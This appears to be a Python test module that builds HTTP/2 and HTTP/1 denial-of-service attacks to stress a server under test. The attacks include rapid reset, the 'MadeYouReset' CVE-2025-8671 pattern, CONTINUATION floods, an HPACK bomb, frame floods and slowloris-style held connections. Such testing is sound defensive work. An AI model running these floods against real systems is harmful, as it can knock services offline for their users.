"""What one may do to the port for calls, each until it is told to end: floods, and connections that are held."""

from __future__ import annotations

import itertools
import socket
import struct
import time
from collections.abc import Callable, Iterator
from typing import Any

from tests.hostile import http2
from tests.hostile.http2 import CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PRIORITY, SETTINGS, WINDOW_UPDATE
from tests.hostile.names import LARGE, UPLOAD, WHO

Address = tuple[str, int]
IsOver = Callable[[], bool]
Did = dict[str, Any]
Chunks = Callable[[], Iterator[bytes]]

# An attacker of whom there may be more: it leaves the machine's other CPU to those it attacks.
PAUSE_SECONDS = 0.002
# Between zones; what is read comes again after so long. On one machine an attacker's own buffer would fill in at once.
ROUND_TRIP_SECONDS = 0.0005
IN_FLIGHT_BYTES = 2**17
_WHO, _LARGE, _UPLOAD = WHO.encode(), LARGE.encode(), UPLOAD.encode()


def _connect(address: Address) -> socket.socket:
    one = socket.create_connection(address, timeout=5)
    one.settimeout(0.2)
    return one


def _discard(one: socket.socket) -> bool:
    """Reads what has come. False where the other end has closed."""
    one.setblocking(False)
    try:
        while True:
            if one.recv(2**16) == b"":
                return False
    except BlockingIOError:
        return True
    except OSError:
        return False
    finally:
        one.settimeout(0.2)


def flood(chunks: Chunks, connections: int = 4) -> Callable[[Address, IsOver], Did]:
    """Chunks on some connections in turn; one that is closed is opened again."""

    def attack(address: Address, is_over: IsOver) -> Did:
        sent = closed = 0
        opened: dict[int, tuple[socket.socket, Iterator[bytes]]] = {}
        while not is_over():
            for number in range(connections):
                try:
                    if number not in opened:
                        opened[number] = _connect(address), chunks()
                    one, left = opened[number]
                    chunk = next(left)
                    one.sendall(chunk)
                    sent += len(chunk)
                    is_open = _discard(one)
                except (OSError, StopIteration):
                    is_open = False
                if not is_open and number in opened:
                    closed += 1
                    opened.pop(number)[0].close()
                time.sleep(PAUSE_SECONDS)
        for one, _ in opened.values():
            one.close()
        return {"sent": sent, "closed": closed}

    return attack


def hold(first: bytes, connections: int, drip: bytes = b"", *, reads: bool = False) -> Callable[[Address, IsOver], Did]:
    """Connections that say something and stay; `drip` goes on byte by byte. What is closed is opened again."""

    def attack(address: Address, is_over: IsOver) -> Did:
        opened: dict[int, socket.socket] = {}
        count, position = 0, 0
        while not is_over():
            for number in range(connections):
                try:
                    if number not in opened:
                        opened[number] = _connect(address)
                        opened[number].sendall(first)
                        count += 1
                    elif drip:
                        opened[number].send(drip[position % len(drip) :][:1])
                    is_open = not reads or _discard(opened[number])
                except OSError:
                    is_open = False
                if not is_open and number in opened:
                    opened.pop(number).close()
                if count % 50 == 0 and is_over():
                    break
            position += 1
            time.sleep(0.02)
        for one in opened.values():
            one.close()
        return {"opened": count}

    return attack


def at_line_rate(content: bytes, connections: int) -> Callable[[Address, IsOver], Did]:
    """Connections that send all that a network takes in each of its round trips, one after the other to its end."""

    def attack(address: Address, is_over: IsOver) -> Did:
        everything = memoryview(content)
        opened: dict[int, tuple[socket.socket, int]] = {}
        sent = 0
        while not is_over():
            for number in range(connections):
                if number not in opened:
                    opened[number] = _connect(address), 0
                    opened[number][0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, IN_FLIGHT_BYTES)
                one, position = opened[number]
                is_open = _discard(one)
                one.setblocking(False)
                try:
                    count = one.send(everything[position:])
                    sent, position = sent + count, position + count
                except BlockingIOError:
                    pass
                except OSError:
                    is_open = False
                opened[number] = one, position
                if not is_open or position == len(content):
                    opened.pop(number)[0].close()
            time.sleep(ROUND_TRIP_SECONDS)
        for one, _ in opened.values():
            one.close()
        return {"sent": sent}

    return attack


def _odd() -> Iterator[int]:
    return itertools.count(1, 2)


def _reset_at_once(streams: Iterator[int], count: int) -> bytes:
    return b"".join(
        http2.call(stream, _WHO) + http2.message(stream) + http2.reset(stream)
        for stream in itertools.islice(streams, count)
    )


def _rapid_reset() -> Iterator[bytes]:
    yield http2.start()
    streams = _odd()
    while True:
        yield _reset_at_once(streams, 100)


def _resets_by_the_megabyte() -> bytes:
    return http2.start() + _reset_at_once(_odd(), 40_000)


def _continuation() -> Iterator[bytes]:
    yield http2.start() + http2.call(1, _WHO, flags=0)
    for number in itertools.count():
        yield http2.frame(CONTINUATION, 0, 1, http2.encoded([(b"x-%d" % number, b"x" * 16_000)]))


def _empty_continuation() -> Iterator[bytes]:
    yield http2.start() + http2.call(1, _WHO, flags=0)
    while True:
        yield http2.frame(CONTINUATION, 0, 1) * 1_000


def _frames(one: bytes, count: int = 1_000) -> Chunks:
    """The same frame over and over, after a call that waits for more."""

    def chunks() -> Iterator[bytes]:
        yield http2.start() + http2.call(1, _UPLOAD)
        while True:
            yield one * count

    return chunks


def _resets_of_itself() -> Iterator[bytes]:
    """Each stream breaks a rule, and the server has to reset it (CVE-2025-8671, "MadeYouReset")."""
    yield http2.start()
    streams = _odd()
    while True:
        yield b"".join(
            http2.call(stream, _WHO) + http2.frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
            for stream in itertools.islice(streams, 100)
        )


def _hpack_bomb() -> Iterator[bytes]:
    """An entry of 4,000 bytes in the table, and 60,000 references to it of a byte each: 240 MB of headers."""
    yield http2.start()
    entry = b"\x40" + http2.integer(1, 7) + b"x" + http2.integer(4_000, 7) + b"x" * 4_000
    for stream in _odd():
        yield http2.frame(HEADERS, 0, stream, http2.encoded(http2.headers_of_call(_WHO)) + entry)
        for _ in range(3):
            yield http2.frame(CONTINUATION, 0, stream, b"\xbe" * 16_000)
        yield http2.frame(CONTINUATION, END_HEADERS, stream, b"\xbe" * 12_000)


def _table_sizes() -> Iterator[bytes]:
    """The table is emptied and filled again with each header block."""
    yield http2.start()
    for stream in _odd():
        block = http2.integer(0, 5, 0x20) + http2.integer(4_096, 5, 0x20) + http2.encoded(http2.headers_of_call(_WHO))
        yield http2.frame(HEADERS, END_HEADERS, stream, block) + http2.message(stream)


def _churn() -> Iterator[bytes]:
    yield http2.start() + http2.call(1, _WHO) + http2.message(1)


def _calls(path: bytes, count: int, **settings: int) -> bytes:
    calls = [http2.call(stream, path) + http2.message(stream) for stream in itertools.islice(_odd(), count)]
    return http2.start(**settings) + b"".join(calls)


_UPLOADED = http2.message(1, bytes(16_000), flags=0)
_HTTP1 = b"POST /hit.Hit/Who HTTP/1.1\r\nHost: test\r\nContent-Type: application/grpc-web\r\n"

ATTACKS: dict[str, Callable[[Address, IsOver], Did]] = {
    "rapid reset": flood(_rapid_reset),
    "resets of itself": flood(_resets_of_itself),
    "continuation": flood(_continuation),
    "empty continuation": flood(_empty_continuation),
    "settings": flood(_frames(http2.settings(INITIAL_WINDOW_SIZE=65_535))),
    "empty settings": flood(_frames(http2.frame(SETTINGS))),
    "ping": flood(_frames(http2.frame(PING, payload=bytes(8)))),
    "priority": flood(_frames(http2.frame(PRIORITY, 0, 3, struct.pack(">IB", 1, 16)))),
    "window update": flood(_frames(http2.frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))),
    "unknown frames": flood(_frames(http2.frame(0x77, 0, 1, b"x"))),
    "empty data": flood(_frames(http2.frame(DATA, 0, 1))),
    "1-byte data": flood(_frames(http2.frame(DATA, 0, 1, b"\0"), count=100)),
    "hpack bomb": flood(_hpack_bomb),
    "hpack table sizes": flood(_table_sizes),
    "connections": flood(_churn, connections=20),
    "zero windows": hold(_calls(_LARGE, 20, INITIAL_WINDOW_SIZE=0), connections=10, reads=True),
    "slow readers": hold(_calls(_LARGE, 20, INITIAL_WINDOW_SIZE=2**31 - 1), connections=10),
    "slow writers": hold(http2.start(), connections=200, drip=http2.call(1, _WHO) + http2.message(1), reads=True),
    "stuck uploads": hold(http2.start() + http2.call(1, _UPLOAD) + _UPLOADED * 4, connections=50, reads=True),
    "idle connections": hold(b"", connections=500, reads=True),
    "idle http2 connections": hold(http2.start(), connections=500, reads=True),
    "slow http1 heads": hold(_HTTP1, connections=200, drip=b"X-Slow: " + b"x" * 1_000, reads=True),
}
# These fill a worker's time by themselves, at the pace of a network: what they send is made before.
LINE_RATE_ATTACKS: dict[str, Callable[[], Callable[[Address, IsOver], Did]]] = {
    "resets by the megabyte": lambda: at_line_rate(_resets_by_the_megabyte(), connections=2)
}
